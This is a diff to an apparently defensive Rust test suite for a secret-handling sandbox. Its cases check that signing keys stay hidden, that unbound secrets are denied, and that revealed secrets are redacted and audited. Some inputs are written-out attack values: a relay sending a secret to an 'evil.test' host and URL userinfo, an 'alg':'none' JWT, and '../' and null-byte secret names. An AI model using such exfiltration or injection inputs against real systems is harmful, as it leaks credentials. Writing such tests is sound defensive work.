@@ -3,7 +3,7 @@
 use serde_json::{Value, json};
 
 use crate::attacks;
-use crate::world::stopped;
+use crate::world::{secret, stopped};
 
 attacks! {
     ungranted_secrets: "computes with, and attaches, secrets that are bound but not granted to it" => "denied", |world| {
@@ -24,6 +24,44 @@ attacks! {
             { "do": "http", "url": url, "attach": "signing" },
         ])).await;
         assert!(told.iter().all(|result| result["err"].as_str().is_some_and(|why| why.to_lowercase().contains("denied"))), "{told:?}");
+    }
+    signatures_and_tokens: "has bytes of its choice signed and tokens made with a key, and has them echoed" => "gets signatures and tokens and nothing of the key; what the binding does not list is denied", |world| {
+        let relay = json!({ "do": "relay", "from": 1, "pick": "/ok", "url": format!("{}/v1/plain", world.trusted.origin()), "headers": [["x-token", "SEEN"]], "body": "SEEN" });
+        let told = world.told(json!([
+            { "do": "sign", "name": "key", "message": "m" },
+            { "do": "jwt", "name": "key", "claims": r#"{"sub":"me","alg":"none"}"# },
+            relay,
+            { "do": "hmac", "name": "key", "message": "m" },
+            { "do": "sign", "name": "signing", "message": "m" },
+            { "do": "jwt", "name": "signing", "claims": "{}" },
+            { "do": "sign", "name": "api", "message": "m" },
+            { "do": "jwt", "name": "hidden", "claims": "{}" },
+        ])).await;
+        assert_eq!(told[0]["ok"].as_str().map(str::len), Some(128), "{told:?}");
+        let token = told[1]["ok"].as_str().unwrap();
+        assert_eq!(token.split('.').count(), 3, "{told:?}");
+        assert!(told[2]["ok"]["body"].as_str().unwrap().ends_with(token), "{told:?}");
+        assert!(told[3..].iter().all(|result| result["err"].as_str().is_some_and(|why| why.contains("Denied"))), "{told:?}");
+    }
+    revealed_and_told: "has a secret shown that it may see, and tells it in refused requests, names of hosts, log and output" => "audited each time, and removed from all that is told; other secrets are not shown", |world| {
+        let policy = world.policy("http = [{ origin = 'http://only.test' }]\ntcp = [{ host = 'only.test', ports = [1] }]");
+        let told = world.told_under(&policy, json!([
+            { "do": "reveal", "name": "revealed" },
+            { "do": "relay", "from": 0, "pick": "/ok", "url": "http://SEEN.evil.test/SEEN?q=SEEN" },
+            { "do": "relay", "from": 0, "pick": "/ok", "url": "http://user:SEEN@only.test/" },
+            { "do": "say", "parts": [secret("revealed")] },
+            { "do": "reveal", "name": "api" },
+            { "do": "reveal", "name": "key" },
+            { "do": "reveal", "name": "hidden" },
+            { "do": "reveal", "name": "nothing" },
+        ])).await;
+        assert_eq!(told[0]["ok"], "[secret revealed]", "{told:?}");
+        assert!(told[1]["err"].as_str().unwrap().contains("http://[secret revealed].evil.test/[secret revealed]"), "{told:?}");
+        assert!(told[4..].iter().all(|result| result["err"].as_str().is_some_and(|why| why.contains("denied"))), "{told:?}");
+        let spied = world.spy.told();
+        assert_eq!(spied.matches("SecretRevealed").count(), 1, "{spied}");
+        assert_eq!(spied.matches("SecretRefused").count(), 4, "{spied}");
+        assert!(world.dns.asked().is_empty(), "{:?}", world.dns.asked());
     }
     names_of_secrets: "tries many names, to learn which secrets there are" => "one answer for those that are bound to others and those that are not there", |world| {
         let told = world.told(json!([{ "do": "open", "names": ["hidden", "nothing", "api", "attached", "", "../hidden", "HIDDEN", "hidden\u{0}", "*"] }])).await;
